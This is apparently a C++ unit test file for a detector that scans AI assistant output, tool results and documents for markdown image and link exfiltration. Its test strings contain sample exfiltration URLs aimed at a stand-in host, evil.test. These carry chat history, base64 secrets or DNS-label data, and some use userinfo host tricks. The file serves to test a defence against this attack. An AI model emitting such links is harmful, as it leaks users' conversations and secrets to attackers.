#include <gtest/gtest.h>
#include <hs/hs.h>

#include <algorithm>
#include <chrono>
#include <iostream>
#include <random>
#include <regex>

#include "bulwark/engine.h"
#include "detect/exfil/host_allowlist.h"
#include "detect/exfil/patterns.h"
#include "detect/exfil/url.h"
#include "support/case_file.h"

namespace bulwark {
namespace {

TEST(ExfilLinks, Cases) { EXPECT_GT(testing::expect_cases("exfil.links", "exfil_links.cases"), 0); }

EnginePtr engine_with(std::map<std::string, std::string> params, std::optional<RoleSet> roles = all_roles()) {
  Policy p = Policy::defaults();
  p.use_default_detectors = false;
  p.detectors = {{"exfil.links", true, roles, std::move(params)}};
  auto e = Engine::compile(p);
  EXPECT_TRUE(e.ok()) << e.status().to_string();
  return e.ok() ? *e : nullptr;
}

std::vector<Finding> scan(const EnginePtr& e, std::string_view text, Role role = Role::kAssistant) {
  auto scratch = e->new_scratch();
  auto r = e->scan({text, role}, *scratch);
  EXPECT_TRUE(r.ok()) << r.status().to_string();
  return r.ok() ? r->findings : std::vector<Finding>{};
}

TEST(ExfilLinks, AllowlistExactWildcardAndDotForms) {
  auto e = engine_with({{"allowed_hosts", "cdn.example.com, *.corp.example , .docs.example"}});
  ASSERT_TRUE(e);
  EXPECT_TRUE(scan(e, "![x](https://cdn.example.com/a.png)").empty());
  EXPECT_TRUE(scan(e, "![x](https://CDN.Example.COM./a.png)").empty());   // case, trailing dot
  EXPECT_EQ(scan(e, "![x](https://img.cdn.example.com/a.png)").size(), 1u);  // exact: no subdomains
  EXPECT_TRUE(scan(e, "![x](https://a.b.corp.example/x.png)").empty());
  EXPECT_EQ(scan(e, "![x](https://corp.example/x.png)").size(), 1u);  // "*." excludes the apex
  EXPECT_EQ(scan(e, "![x](https://evilcorp.example/x.png)").size(), 1u);
  EXPECT_TRUE(scan(e, "![x](https://docs.example/x.png)").empty());  // "." includes the apex
  EXPECT_TRUE(scan(e, "![x](https://api.docs.example/x.png)").empty());
  EXPECT_EQ(scan(e, "![x](https://docs.example.evil.test/x.png)").size(), 1u);
  // User info does not make a host allowed: the browser contacts evil.test.
  EXPECT_EQ(scan(e, "![x](https://cdn.example.com@evil.test/x.png)").size(), 1u);
  EXPECT_TRUE(scan(e, "![x](https://evil.test@cdn.example.com/x.png)").empty());
}

TEST(ExfilLinks, BadParamsAreErrors) {
  for (auto hosts : {"https://example.com", "exa mple.com", "foo.*.com", "*.", "example.com/path"}) {
    Policy p = Policy::defaults();
    p.use_default_detectors = false;
    p.detectors = {{"exfil.links", true, std::nullopt, {{"allowed_hosts", hosts}}}};
    auto e = Engine::compile(p);
    EXPECT_FALSE(e.ok()) << hosts;
  }
  Policy p = Policy::defaults();
  p.use_default_detectors = false;
  p.detectors = {{"exfil.links", true, std::nullopt, {{"alowed_hosts", "x.com"}}}};
  EXPECT_FALSE(Engine::compile(p).ok());
}

TEST(ExfilLinks, SeverityByChannelAndData) {
  auto e = engine_with({});
  ASSERT_TRUE(e);
  auto sev = [&](std::string_view t, Role r = Role::kAssistant) {
    auto f = scan(e, t, r);
    return f.empty() ? -1 : f[0].severity;
  };
  EXPECT_EQ(sev("![x](https://evil.test/cat.png)"), 6);
  EXPECT_EQ(sev("![x](https://evil.test/cat.png?q={conversation})"), 7);
  EXPECT_EQ(sev("![x](https://evil.test/c.png?d=SGVsbG8sIG15IHBhc3N3b3JkIGlzIDEyMzQ)"), 7);
  EXPECT_EQ(sev("[docs](https://evil.test/guide)"), 2);
  EXPECT_EQ(sev("[docs](https://evil.test/guide?session=abcdef0123)"), 4);
  // Fragments never reach the server when an image loads, but do when a link is followed.
  EXPECT_EQ(sev("![x](https://evil.test/x.png#aGVsbG8gd29ybGQgc2VjcmV0MQ)"), 6);
  EXPECT_EQ(sev("[x](https://evil.test/x#aGVsbG8gd29ybGQgc2VjcmV0MQ)"), 4);
  // DNS exfiltration in a subdomain label.
  EXPECT_EQ(sev("![x](https://n2vjcmv0ihbhc3n3b3jkoiaxmjm0nq.evil.test/p.png)"), 7);
  EXPECT_EQ(sev("![x](https://images.cdn-01.evil.test/p.png)"), 6);
  // A git commit id in a path is ordinary, not data.
  EXPECT_EQ(sev("[c](https://git.test/r/commit/3f2a9c1d0e8b7a6f5e4d3c2b1a0f9e8d7c6b5a49)"), 2);
  // In documents web pages are full of images; only data-bearing ones are strong.
  EXPECT_EQ(sev("![x](https://evil.test/cat.png)", Role::kDocument), 3);
  EXPECT_EQ(sev("![x](https://evil.test/p.png?q=$CHAT_HISTORY)", Role::kDocument), 6);
  // The default exfiltration rule blocks at severity 4.
  auto scratch = e->new_scratch();
  auto r = e->scan({"![x](https://evil.test/cat.png)", Role::kAssistant}, *scratch);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->decision, Action::kBlock);
  ASSERT_EQ(r->findings.size(), 1u);
  EXPECT_EQ(r->findings[0].span.byte_begin, 0u);
  EXPECT_EQ(r->findings[0].span.byte_end, 31u);  // the whole construct
  EXPECT_EQ(r->findings[0].category, "exfiltration");
}

TEST(ExfilLinks, DefaultRolesSkipUserAndSystem) {
  auto e = engine_with({}, std::nullopt);
  ASSERT_TRUE(e);
  const char* t = "![x](https://evil.test/cat.png)";
  EXPECT_TRUE(scan(e, t, Role::kUser).empty());
  EXPECT_TRUE(scan(e, t, Role::kSystem).empty());
  for (Role r : {Role::kAssistant, Role::kDocument, Role::kToolResult, Role::kToolCall})
    EXPECT_EQ(scan(e, t, r).size(), 1u) << role_name(r);
}

TEST(ExfilLinks, UrlParsingFollowsBrowsers) {
  using detect::exfil::parse_external_url;
  auto host = [](std::string_view u) {
    auto p = parse_external_url(u);
    return p ? p->host : std::string("<none>");
  };
  EXPECT_EQ(host("https://a.test/x"), "a.test");
  EXPECT_EQ(host("https://u:p@a.test:8080/x"), "a.test");
  EXPECT_EQ(host("https://x@y@a.test/"), "a.test");          // last '@'
  EXPECT_EQ(host("https://a.test\\@b.test/"), "a.test");      // backslash ends the authority
  EXPECT_EQ(host("//A.Test./x"), "a.test");
  EXPECT_EQ(host("https://[::1]:80/x"), "[::1]");
  EXPECT_EQ(host("https://%61.test/"), "a.test");
  EXPECT_EQ(host("/relative"), "<none>");
  EXPECT_EQ(host("javascript:alert(1)"), "<none>");
  EXPECT_EQ(host("https://?x"), "<none>");
}

TEST(ExfilLinks, PatternsCompileUnderStdRegexAndHyperscan) {
  const auto& pats = detect::exfil_patterns();
  ASSERT_FALSE(pats.empty());
  for (const auto& p : pats) {
    auto flags = std::regex::ECMAScript | (p.caseless ? std::regex::icase : std::regex::ECMAScript);
    EXPECT_NO_THROW(std::regex(p.regex, flags)) << p.id << ": " << p.regex;
    hs_database_t* db = nullptr;
    hs_compile_error_t* err = nullptr;
    unsigned hs_flags = HS_FLAG_UTF8 | (p.caseless ? HS_FLAG_CASELESS : 0u);
    EXPECT_EQ(hs_compile(p.regex.c_str(), hs_flags, HS_MODE_BLOCK, nullptr, &db, &err), HS_SUCCESS)
        << p.id << ": " << (err ? err->message : "");
    hs_free_database(db);
    hs_free_compile_error(err);
  }
}

// The std::regex baseline must do comparable work: every positive markup case of the case
// file is found by some pattern (bare URLs in tool calls have no markup pattern).
TEST(ExfilLinks, PatternsCoverPositiveCases) {
  std::vector<std::regex> res;
  for (const auto& p : detect::exfil_patterns())
    res.emplace_back(p.regex, std::regex::ECMAScript | (p.caseless ? std::regex::icase : std::regex::ECMAScript));
  for (const auto& c : testing::load_cases("exfil_links.cases")) {
    // Character references are decoded by the detector, not by a regex.
    if (!c.positive || c.subtype == "bare_url" || c.text.find('&') != std::string::npos) continue;
    bool any = false;
    for (const auto& re : res) any = any || std::regex_search(c.text, re);
    EXPECT_TRUE(any) << "line " << c.line << ": " << c.text;
  }
}

TEST(ExfilLinks, ScanOfFourKilobytesTiming) {
  auto e = engine_with({{"allowed_hosts", "*.example.com"}});
  ASSERT_TRUE(e);
  // Assistant-style markdown: prose, code, allowed links, and one exfiltration image.
  std::string text;
  const char* parts[] = {"Here is the summary you asked for. ", "See [the docs](https://docs.example.com/a). ",
                         "`a[i](j)` is a call. ", "<b>bold</b> and <a href=\"/rel\">rel</a>. ",
                         "![chart](https://cdn.example.com/c.png) ", "Some more prose about billing.\n"};
  for (size_t i = 0; text.size() < 4096; ++i) text += parts[i % 6];
  text.resize(4000);
  text += "![x](https://evil.test/?q=aGVsbG8gc2VjcmV0IHdvcmxk)";
  auto scratch = e->new_scratch();
  // Medians: the machine is shared, averages would measure the neighbours.
  std::vector<double> total_us, detector_us;
  size_t n = 0;
  for (int i = 0; i < 500; ++i) {
    auto r = e->scan({text, Role::kAssistant}, *scratch);
    ASSERT_TRUE(r.ok());
    n = r->findings.size();
    total_us.push_back(r->total_nanos / 1000.0);
    detector_us.push_back(r->timings.empty() ? 0.0 : r->timings[0].nanos / 1000.0);
  }
  std::nth_element(total_us.begin(), total_us.begin() + 250, total_us.end());
  std::nth_element(detector_us.begin(), detector_us.begin() + 250, detector_us.end());
  const double us = total_us[250];
  EXPECT_EQ(n, 1u);
  std::cout << "[ exfil.links ] scan of " << text.size() << " B, median: detector " << detector_us[250]
            << " us, engine total " << us << " us\n";
  EXPECT_LT(us, 20000.0);  // sanity bound against pathological behaviour, not a tuned figure
}

TEST(ExfilLinks, GarbageNeverCrashes) {
  auto e = engine_with({});
  ASSERT_TRUE(e);
  std::mt19937 rng(7);
  const std::string alphabet = "![](){}<>\"'=/\\:@?#&%.hts imgrcfu\n";
  auto scratch = e->new_scratch();
  for (int n = 0; n < 2000; ++n) {
    std::string t;
    size_t len = rng() % 200;
    for (size_t i = 0; i < len; ++i) t.push_back(alphabet[rng() % alphabet.size()]);
    for (Role r : {Role::kAssistant, Role::kToolCall}) {
      auto res = e->scan({t, r}, *scratch);
      ASSERT_TRUE(res.ok());
      for (const auto& f : res->findings) ASSERT_LE(f.span.byte_end, t.size());
    }
  }
  // Long pathological inputs stay fast (bounded look-back).
  std::string many(200000, '[');
  many += "](https://evil.test/x)";
  EXPECT_EQ(scan(e, many).size(), 1u);
  std::string tags;
  for (int i = 0; i < 20000; ++i) tags += "<img src=\"";
  EXPECT_NO_FATAL_FAILURE(scan(e, tags));
}

}  // namespace
}  // namespace bulwark
